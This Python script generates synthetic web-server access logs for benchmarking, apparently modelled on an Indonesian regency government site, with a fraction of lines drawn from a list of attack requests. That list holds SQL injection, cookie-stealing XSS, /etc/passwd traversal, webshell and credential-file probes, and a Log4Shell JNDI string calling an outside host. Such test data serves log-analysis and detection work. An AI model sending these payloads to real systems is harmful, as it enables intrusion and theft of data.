#!/usr/bin/python3
"""Deterministic access-log generator for benchmarks: N combined-format lines
of a regency website, about ATTACK_PCT percent of them attacks (SQLi, XSS,
traversal, webshell probes, scanners, gambling spam, wp-login floods).

  gen_access_log.py --lines 1000000 --attack-pct 2 --seed 7 > access.log
"""
import argparse
import random
import sys
import time

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]
PAGES = [
    "/", "/berita/pemkab-salurkan-bantuan-banjir", "/pengumuman/hasil-seleksi-cpns-2026",
    "/layanan/perizinan-online", "/profil/visi-misi", "/assets/css/style.min.css",
    "/assets/js/app.js", "/assets/img/logo-kabupaten.png", "/index.php/artikel/1234",
    "/ppid/informasi-publik", "/agenda/rapat-koordinasi", "/galeri/foto-kegiatan",
    "/berita/undian-berhadiah-pajak-kendaraan", "/search?q=jadwal+posyandu",
]
ATTACKS = [
    ("GET", "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", 500),
    ("GET", "/pengaduan/detail.php?id=5;DROP%20TABLE%20pengaduan--", 500),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("GET", "/download.php?file=../../../../etc/passwd", 200),
    ("GET", "/assets/uploads/x8f2.php?cmd=id", 200),
    ("GET", "/?s=slot+gacor+maxwin+hari+ini", 200),
    ("GET", "/slot-gacor-terpercaya/", 404),
    ("POST", "/wp-login.php", 200),
    ("POST", "/xmlrpc.php", 200),
    ("GET", "/.env", 404),
    ("GET", "/.git/config", 404),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("GET", "/assets/kcfinder/upload.php", 200),
    ("GET", "/?x=${jndi:ldap://198.51.100.7:1389/a}", 400),
]
SCANNER_UAS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)",
               "python-requests/2.31.0", "Mozilla/5.0 zgrab/0.x"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--lines", type=int, default=1000000)
    ap.add_argument("--attack-pct", type=float, default=2.0)
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    out = sys.stdout
    base = 1763600000
    buf = []
    for n in range(a.lines):
        ts = time.strftime("%d/%b/%Y:%H:%M:%S +0800", time.gmtime(base + n // 20 + 8 * 3600))
        if rnd.random() * 100 < a.attack_pct:
            method, path, status = rnd.choice(ATTACKS)
            ip = "45.%d.%d.%d" % (rnd.randrange(120, 140), rnd.randrange(256), rnd.randrange(1, 255))
            ua = rnd.choice(SCANNER_UAS + UAS[:1])
        else:
            method, path = "GET", rnd.choice(PAGES)
            status = rnd.choice([200] * 12 + [304, 304, 404, 301])
            ip = "%d.%d.%d.%d" % (rnd.choice([36, 114, 180, 182, 202]), rnd.randrange(256),
                                  rnd.randrange(256), rnd.randrange(1, 255))
            ua = rnd.choice(UAS)
        ref = "-" if rnd.random() < 0.6 else "https://kutaitimurkab.go.id/"
        buf.append('%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
            ip, ts, method, path, status, rnd.randrange(200, 90000), ref, ua))
        if len(buf) >= 10000:
            out.write("".join(buf))
            buf = []
    out.write("".join(buf))
    return 0


if __name__ == "__main__":
    sys.exit(main())
